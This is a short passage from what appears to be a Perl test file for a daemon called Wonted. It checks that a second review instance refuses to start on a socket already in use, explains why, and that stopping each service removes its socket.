	my $start = join ' ', Wonted::Daemon::build_dir() . '/wonted-review', '-f', '-c', $d->{conf};
	my $said = `timeout 20 $start 2>&1`;
	is($? >> 8, 3, 'does not start at the socket of another');
	like($said, qr/review_socket unix:\S+: another process serves it; stop that one first/, 'says why');
	is($r->browser->get('/login')->{status}, 200, 'and the first is still reached');
};
ok($r->stop, 'the page stops');
ok(!-e "$d->{dir}/review", 'and takes its socket away');
ok($d->stop, 'the filter stops');
done_testing;
